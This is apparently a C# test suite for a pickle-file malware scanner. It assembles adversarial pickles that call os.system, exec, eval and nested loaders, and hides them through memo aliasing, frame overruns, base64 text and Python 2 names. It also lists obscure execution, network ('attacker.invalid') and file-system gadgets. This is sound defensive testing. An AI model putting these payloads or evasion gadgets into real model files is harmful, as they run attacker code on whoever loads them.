using Gatehouse.Scanning.Pickle;
using static Gatehouse.Scanning.Tests.Pickle.PickleAssembler;
using static Gatehouse.Scanning.Tests.Pickle.PickleScanning;

namespace Gatehouse.Scanning.Tests.Pickle;

/// <summary>The opcode and name-resolution corpus cases 8.2-15 to 8.2-38 (and the broken-pickle case 8.1-2).</summary>
public sealed class AdversarialPickleTests
{
    [Fact]
    public void Case02_payload_followed_by_garbage_is_dangerous_and_reported_as_broken()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Latin1("cos\nsystem\n(S'id'\ntR\xff\xfe garbage"));
        Assert.True(findings.Has(PickleRules.DangerousCall, "os.system"));
        Assert.True(findings.Has(PickleRules.Malformed));
    }

    [Fact]
    public void Case15_dotted_qualname_through_pathlib_reaches_os_system()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Hex("80048c07706174686c69628c096f732e73797374656d938c02696485522e"));
        var import = findings.Single(PickleRules.DangerousGlobal);
        Assert.Equal("pathlib.os.system", import.Global);
        Assert.Equal("STACK_GLOBAL", import.CallSite);
        Assert.True(findings.Has(PickleRules.DangerousCall, "pathlib.os.system"));
    }

    [Fact]
    public void Case15_the_same_dotted_global_below_protocol_4_fails_to_load_and_is_invalid()
    {
        // Under protocol 0 CPython imports pathlib, then getattr(pathlib, "os.system") fails: INVALID. Dotted names resolve
        // only from protocol 4 on (find_class in CPython's Lib/pickle.py).
        var findings = AssertVerdict(ScanLevel.Invalid, Latin1("cpathlib\nos.system\n(S'id'\ntR."));
        Assert.True(findings.Has(PickleRules.UnresolvableGlobal));
        Assert.DoesNotContain(findings, f => f.Level == ScanLevel.Dangerous);
    }

    [Fact]
    public void Case15_a_dotted_name_below_protocol_4_in_a_dangerous_module_is_still_dangerous()
    {
        // Importing the module runs; a deny-listed module is dangerous even when the attribute lookup then fails.
        AssertVerdict(ScanLevel.Dangerous, Latin1("cos\npath.join\n(S'id'\ntR."));
    }

    [Fact]
    public void Case15_a_dotted_global_after_PROTO_4_resolves_component_by_component()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, new PickleAssembler().Proto(4).Global("pathlib", "os.getcwd").EmptyTuple().Reduce().Stop().ToArray());
        Assert.False(findings.Has(PickleRules.UnresolvableGlobal));
    }

    [Fact]
    public void Case16_memo_aliasing_resolves_the_values_the_memo_really_holds()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Hex("80048c026f739468009430308c0673797374656d943068016802938c02696485522e"));
        Assert.True(findings.Has(PickleRules.DangerousGlobal, "os.system"));
    }

    [Fact]
    public void Case17_missing_memo_key_in_STACK_GLOBAL_after_a_dangerous_global_is_dangerous_and_invalid()
    {
        var pickle = new PickleAssembler().Proto(4).Global("os", "system").Pop()
            .BinGet(7).Unicode("x").StackGlobal().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.True(findings.Has(PickleRules.Malformed));
    }

    [Fact]
    public void Case17_non_string_memo_value_in_STACK_GLOBAL_is_invalid()
    {
        var pickle = new PickleAssembler().Proto(4).Global("os", "system").Pop()
            .Int(5).Memoize().BinGet(0).Unicode("system").StackGlobal().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.Contains(findings, f => f.Rule == PickleRules.Malformed && f.Message.Contains("STACK_GLOBAL requires str", StringComparison.Ordinal));
    }

    [Fact]
    public void Case18_STACK_GLOBAL_fed_by_protocol_0_STRING_opcodes_is_dangerous()
    {
        AssertVerdict(ScanLevel.Dangerous, Latin1("S'os'\nS'system'\n\x93S'ls'\n\x85R."));
    }

    [Fact]
    public void Case19_decoy_strings_do_not_hide_the_memoized_real_names()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous,
            Latin1("Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR."));
        Assert.True(findings.Has(PickleRules.DangerousCall, "os.system"));
    }

    [Fact]
    public void Case20_INST_opcode_imports_and_calls_exec()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Latin1("(S'raise RuntimeError(\"x\")'\ni__builtin__\nexec\n."));
        Assert.True(findings.Has(PickleRules.DangerousCall, "builtins.exec"));
    }

    [Fact]
    public void Case21_OBJ_result_discarded_by_POP_is_still_a_call()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Hex("8004288c07736d74706c69628c04534d5450938c093132372e302e302e316f304e2e"));
        var call = findings.Single(PickleRules.DangerousCall);
        Assert.Equal("smtplib.SMTP", call.Global);
        Assert.Equal("OBJ", call.CallSite);
    }

    [Fact]
    public void Case22_EXT1_called_is_dangerous()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Hex("800282425502696485522e"));
        Assert.True(findings.Has(PickleRules.ExtensionCall));
    }

    [Fact]
    public void Case22_EXT_references_without_a_call_are_suspicious()
    {
        AssertVerdict(ScanLevel.Suspicious, new PickleAssembler().Proto(2).Ext1(66).Pop().Ext2(600).Pop().Ext4(70000).Stop().ToArray());
    }

    [Fact]
    public void Case23_an_opcode_crossing_its_frame_end_is_invalid_and_what_it_hides_is_still_scanned()
    {
        var hidden = Latin1("cos\nsystem\nVecho pwned\n\x85R.");
        var argument = new byte[0x107];
        hidden.CopyTo(argument, 0);
        var padding = new byte[128 * 1024];
        var pickle = new PickleAssembler().Proto(4)
            .Bytes(padding).Pop()
            .Frame(2).Bytes(argument).Pop()
            .None().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.True(findings.Has(PickleRules.FrameOverrun));
        Assert.Contains(findings, f => f.Global == "os.system" && f.Path!.Contains("!<argument@", StringComparison.Ordinal));
    }

    [Fact]
    public void Case23_a_frame_that_ends_exactly_at_an_opcode_boundary_is_fine()
    {
        var body = new PickleAssembler().EmptyDict().Memoize().Unicode("a").Int(1).SetItem().ToArray();
        var pickle = new PickleAssembler().Proto(4).Frame(body.Length + 1).Raw(body).Stop().ToArray();
        AssertVerdict(ScanLevel.Safe, pickle);
    }

    [Fact]
    public void Case24_payload_in_the_second_of_two_concatenated_pickles_is_dangerous()
    {
        var first = new PickleAssembler().Proto(4).EmptyDict().Unicode("a").Int(1).SetItem().Stop().ToArray();
        var second = CallPickle("os", "system", "id", protocol: 4);
        AssertVerdict(ScanLevel.Dangerous, [.. first, .. second]);
    }

    [Fact]
    public void Case25_mid_stream_PROTO_is_suspicious_and_switches_name_resolution()
    {
        var pickle = new PickleAssembler().None().Pop().Proto(4).Global("collections", "OrderedDict").EmptyTuple().Reduce().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Suspicious, pickle);
        Assert.True(findings.Has(PickleRules.MisplacedProto));

        var dotted = new PickleAssembler().Global("pathlib", "os.system").Pop().Proto(4).Global("pathlib", "os.system").Pop().None().Stop().ToArray();
        var both = AssertVerdict(ScanLevel.Dangerous, dotted);
        Assert.Single(both, f => f.Rule == PickleRules.UnresolvableGlobal); // only the protocol-0 one fails to resolve
    }

    [Fact]
    public void Case25_a_duplicate_PROTO_is_suspicious()
    {
        var findings = AssertVerdict(ScanLevel.Suspicious, new PickleAssembler().Proto(2).Proto(2).None().Stop().ToArray());
        Assert.True(findings.Has(PickleRules.MisplacedProto));
    }

    [Theory]
    [InlineData("cPickle", "loads", "pickle.loads")]
    [InlineData("urllib2", "urlopen", "urllib.request.urlopen")]
    [InlineData("commands", "getoutput", "subprocess.getoutput")]
    [InlineData("__builtin__", "reduce", "functools.reduce")]
    [InlineData("urllib", "urlretrieve", "urllib.request.urlretrieve")]
    [InlineData("__builtin__", "eval", "builtins.eval")]
    public void Case26_python_2_names_are_mapped_below_protocol_3_and_judged_as_mapped(string module, string name, string resolved)
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Latin1($"c{module}\n{name}\n(S'x'\ntR."));
        Assert.True(findings.Has(PickleRules.DangerousCall, resolved));
    }

    [Fact]
    public void Case26_python_2_names_are_not_mapped_at_protocol_3_but_a_mapping_loader_is_still_considered()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, new PickleAssembler().Proto(3).Global("cPickle", "loads").Pop().None().Stop().ToArray());
        Assert.Equal("cPickle.loads", findings.Single(PickleRules.DangerousGlobal).Global);
    }

    [Theory]
    [InlineData("_operator", "attrgetter")]
    [InlineData("_operator", "methodcaller")]
    [InlineData("operator", "methodcaller")]
    public void Case27_operator_gadgets_with_import_are_dangerous(string module, string name)
    {
        var pickle = new PickleAssembler().Proto(4)
            .StackGlobal(module, name).Unicode("system").Tuple1().Reduce()
            .StackGlobal("builtins", "__import__").Unicode("os").Tuple1().Reduce().Tuple1().Reduce()
            .Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.True(findings.Has(PickleRules.DangerousGlobal, $"{module}.{name}"));
    }

    [Fact]
    public void Case28_import_and_getattr_chain_is_dangerous()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous,
            Latin1("c__builtin__\n__import__\n(S'os'\ntRp0\n0c__builtin__\ngetattr\n(g0\nS'system'\ntRp1\n0g1\n(S'id'\ntR."));
        Assert.True(findings.Has(PickleRules.DangerousCall, "builtins.__import__"));
        Assert.True(findings.Has(PickleRules.DangerousCall, "builtins.getattr"));
        Assert.True(findings.Has(PickleRules.CallOnObject)); // getattr(...)('id')
    }

    [Fact]
    public void Case29_sour_pickles_globals_compile_eval_chain_is_dangerous()
    {
        var pickle = Latin1(
            "c__builtin__\nglobals\n(tRp0\n0c__builtin__\ncompile\n(S'print(1)'\nS''\nS'exec'\ntRp1\n0" +
            "c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp2\n0c__builtin__\napply\n(g2\n(g0\nS'__builtins__'\nttRp3\n0" +
            "c__builtin__\neval\n(g1\ng0\ntR.");
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.True(findings.Has(PickleRules.DangerousCall, "builtins.eval"));
    }

    [Fact]
    public void Case30_BUILD_state_gadget_on_an_allow_listed_module_is_dangerous()
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, Hex(
            "80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73797374656d28226964222985522e"));
        Assert.True(findings.Has(PickleRules.DunderGlobal, "numpy.__builtins__"));
        Assert.True(findings.Has(PickleRules.BuildOnGlobal, "numpy.size"));
    }

    [Fact]
    public void Case31_pkgutil_resolve_name_trampoline_is_dangerous()
    {
        AssertVerdict(ScanLevel.Dangerous, Latin1("cpkgutil\nresolve_name\n(S'os:system'\ntR(S'id'\ntR."));
    }

    [Theory]
    [InlineData("torch.utils.collect_env", "run")]
    [InlineData("multiprocessing.util", "spawnv_passfds")]
    [InlineData("mlflow.projects.backend.local", "_run_entry_point")]
    [InlineData("uuid", "_get_command_stdout")]
    [InlineData("imaplib", "IMAP4_stream")]
    [InlineData("_osx_support", "_find_build_tool")]
    [InlineData("_aix_support", "_read_cmd_output")]
    [InlineData("_pyrepl.pager", "pipe_pager")]
    [InlineData("test.support.script_helper", "assert_python_ok")]
    [InlineData("timeit", "timeit")]
    [InlineData("cProfile", "runctx")]
    [InlineData("profile", "run")]
    [InlineData("trace", "Trace.run")]
    [InlineData("doctest", "debug_script")]
    [InlineData("idlelib.pyshell", "ModifiedInterpreter.runcode")]
    [InlineData("lib2to3.pgen2.pgen", "ParserGenerator.make_label")]
    [InlineData("numpy.f2py.crackfortran", "getlincoef")]
    [InlineData("numpy.testing._private.utils", "runstring")]
    [InlineData("types", "CodeType")]
    [InlineData("cloudpickle.cloudpickle", "_make_function")]
    [InlineData("_interpreters", "run_string")]
    [InlineData("ctypes", "CDLL")]
    [InlineData("pty", "spawn")]
    [InlineData("venv", "create")]
    [InlineData("pip", "main")]
    [InlineData("ensurepip", "_run_pip")]
    [InlineData("torch._inductor.codecache", "compile_file")]
    [InlineData("torch.jit.unsupported_tensor_ops", "execWrapper")]
    [InlineData("asyncio.unix_events", "_UnixSubprocessTransport._start")]
    [InlineData("torch._dynamo.guards", "GuardBuilder.get")]
    public void Case32_unlisted_execution_primitives_are_dangerous(string module, string name)
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, new PickleAssembler().Proto(4).StackGlobal(module, name).Unicode("id").Tuple1().Reduce().Stop().ToArray());
        Assert.True(findings.Has(PickleRules.DangerousCall, $"{module}.{name}"));
    }

    [Theory]
    [InlineData("pickle", "loads")]
    [InlineData("_pickle", "loads")]
    [InlineData("dill", "loads")]
    public void Case33_nested_pickle_loads_are_dangerous_and_the_inner_payload_is_scanned(string module, string name)
    {
        var inner = CallPickle("os", "system", "id");
        var pickle = new PickleAssembler().Proto(4).StackGlobal(module, name).Bytes(inner).Tuple1().Reduce().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.Contains(findings, f => f.Global == "os.system" && f.Path!.StartsWith("test.pkl!<argument@", StringComparison.Ordinal));
    }

    [Fact]
    public void Case33_cPickle_loads_below_protocol_3_with_a_payload_carried_by_codecs_encode_is_dangerous()
    {
        var inner = Latin1("cposix\nsystem\n(S'id'\ntR.");
        var pickle = new PickleAssembler().Proto(2).Global("cPickle", "loads")
            .Global("_codecs", "encode").BinUnicode(System.Text.Encoding.Latin1.GetString(inner)).BinUnicode("latin1").Tuple2().Reduce()
            .Tuple1().Reduce().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.Contains(findings, f => f.Global == "posix.system" && f.Path!.Contains("!<argument@", StringComparison.Ordinal));
    }

    [Fact]
    public void Case33_functools_partial_of_torch_load_is_dangerous()
    {
        var pickle = new PickleAssembler().Proto(2).Global("functools", "partial").Global("torch", "load").BinUnicode("other.bin").Tuple2().Reduce().Stop().ToArray();
        var findings = AssertVerdict(ScanLevel.Dangerous, pickle);
        Assert.True(findings.Has(PickleRules.DangerousGlobal, "torch.load"));
    }

    [Fact]
    public void Case33_config_module_load_config_is_dangerous()
    {
        AssertVerdict(ScanLevel.Dangerous, new PickleAssembler().Proto(4).StackGlobal("torch.utils._config_module", "ConfigModule.load_config").Bytes(new byte[20]).Tuple1().Reduce().Stop().ToArray());
    }

    [Fact]
    public void Case33_load_from_bytes_of_a_malicious_nested_pickle_is_dangerous()
    {
        var inner = CallPickle("subprocess", "check_output", "id");
        var pickle = new PickleAssembler().Proto(2).Global("torch.storage", "_load_from_bytes").Bytes(inner).Tuple1().Reduce().Stop().ToArray();
        AssertVerdict(ScanLevel.Dangerous, pickle);
    }

    [Fact]
    public void Case33_nested_pickles_hidden_in_base64_and_hex_text_are_scanned()
    {
        var inner = CallPickle("os", "system", "id");
        foreach (var text in new[] { Convert.ToBase64String(inner), Convert.ToHexString(inner) })
        {
            var pickle = new PickleAssembler().Proto(4).Unicode(text).Pop().None().Stop().ToArray();
            AssertVerdict(ScanLevel.Dangerous, pickle);
        }
    }

    [Theory]
    [InlineData("ssl", "get_server_certificate")]
    [InlineData("urllib.request", "urlopen")]
    [InlineData("requests", "get")]
    [InlineData("pandas", "read_csv")]
    [InlineData("socket", "create_connection")]
    [InlineData("webbrowser", "open")]
    public void Case34_network_and_exfiltration_gadgets_are_dangerous(string module, string name)
    {
        AssertVerdict(ScanLevel.Dangerous, CallPickle(module, name, "https://attacker.invalid/?q"));
    }

    [Theory]
    [InlineData("logging", "FileHandler")]
    [InlineData("_io", "FileIO")]
    [InlineData("distutils.file_util", "write_file")]
    [InlineData("shutil", "rmtree")]
    [InlineData("builtins", "open")]
    public void Case35_file_system_side_effects_are_dangerous(string module, string name)
    {
        AssertVerdict(ScanLevel.Dangerous, CallPickle(module, name, "/etc/hosts"));
    }

    [Theory]
    [InlineData("picklescan.scanner", "scan_pickle_bytes")]
    [InlineData("fickling.analysis", "check_safety")]
    [InlineData("modelscan.modelscan", "ModelScan")]
    [InlineData("modelaudit.scanners", "SCANNER_REGISTRY")]
    public void Case36_importing_a_scanner_is_dangerous_tampering(string module, string name)
    {
        var findings = AssertVerdict(ScanLevel.Dangerous, new PickleAssembler().Proto(2).Global(module, name).Pop().None().Stop().ToArray());
        Assert.Contains("scanner", findings.Single(PickleRules.DangerousGlobal).Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Case37_a_million_DUPs_hit_the_stack_limit_quickly()
    {
        var dups = new byte[1_000_001];
        Array.Fill(dups, (byte)'2');
        var pickle = new PickleAssembler().Proto(4).None().Raw(dups).Stop().ToArray();
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var findings = AssertVerdict(ScanLevel.Suspicious, pickle);
        Assert.True(findings.Has(PickleRules.LimitStack));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"took {watch.Elapsed}");
    }

    [Theory]
    [InlineData(0x8E)] // BINBYTES8
    [InlineData(0x8D)] // BINUNICODE8
    [InlineData(0x96)] // BYTEARRAY8
    public void Case37_an_argument_claiming_2_to_the_60_bytes_is_truncated_without_allocating_it(byte opcode)
    {
        var pickle = new PickleAssembler().Proto(5).Op(opcode).Raw(BitConverter.GetBytes(1UL << 60)).Raw(new byte[1000]).Stop().ToArray();
        var before = GC.GetAllocatedBytesForCurrentThread();
        var findings = AssertVerdict(ScanLevel.Safe, pickle);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;
        // The unpickler raises "pickle data was truncated" before importing anything: inert, and said so.
        Assert.Contains(findings, f => f.Rule == InertContent.Rule && f.Message.Contains("Truncated", StringComparison.Ordinal));
        var afterImport = new PickleAssembler().Proto(5).Global("collections", "OrderedDict").Op(opcode).Raw(BitConverter.GetBytes(1UL << 60)).Raw(new byte[1000]).Stop().ToArray();
        Assert.True(AssertVerdict(ScanLevel.Invalid, afterImport).Has(PickleRules.Truncated));
        Assert.True(allocated < 8 * 1024 * 1024, $"allocated {allocated:N0} bytes");
    }

    [Fact]
    public void Case37_deeply_nested_MARKs_hit_the_mark_limit()
    {
        var marks = new byte[20_000];
        Array.Fill(marks, (byte)'(');
        var findings = AssertVerdict(ScanLevel.Suspicious, new PickleAssembler().Proto(2).Raw(marks).Stop().ToArray());
        Assert.True(findings.Has(PickleRules.LimitMarks));
    }

    [Fact]
    public void Case37_memo_fan_out_hits_the_memo_limit()
    {
        var pickle = new PickleAssembler().Proto(4).EmptyList();
        for (var i = 0; i < 2_000; i++)
        {
            pickle.Memoize();
        }
        var findings = AssertVerdict(ScanLevel.Suspicious, pickle.Stop().ToArray(), new ScanLimits { MaxMemoEntries = 1_000 });
        Assert.True(findings.Has(PickleRules.LimitMemo));
    }

    [Fact]
    public void Case37_memo_fan_out_of_a_growing_list_stays_bounded_and_is_suspicious()
    {
        // GET ×N of a growing list is a resource bomb for anything that walks it: SUSPICIOUS.
        var pickle = new PickleAssembler().Proto(4).EmptyList().Memoize();
        for (var i = 0; i < 100_000; i++)
        {
            pickle.BinGet(0).Append();
        }
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var findings = AssertVerdict(ScanLevel.Suspicious, pickle.Stop().ToArray());
        Assert.True(findings.Has(PickleRules.LimitExpansion));
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"took {watch.Elapsed}");
    }

    [Fact]
    public void Case37_the_opcode_and_duration_limits_are_suspicious_not_exceptions()
    {
        var pickle = new PickleAssembler().Proto(4);
        for (var i = 0; i < 40_000; i++)
        {
            pickle.None().Pop();
        }
        var bytes = pickle.None().Stop().ToArray();
        Assert.True(Scan(bytes, new ScanLimits { MaxOpcodes = 1_000 }).Has(PickleRules.LimitOpcodes));
        Assert.True(Scan(bytes, new ScanLimits { MaxDuration = TimeSpan.Zero }).Has(PickleRules.LimitDuration));
    }

    [Fact]
    public void Case38_a_trusted_looking_repository_path_changes_nothing()
    {
        var findings = new PickleScanner(new ScanLimits()).Scan(new MemoryStream(CallPickle("os", "system", "id")), "hf-internal-testing/tiny-model/pytorch_model.bin");
        AssertVerdict(ScanLevel.Dangerous, findings);
    }
}
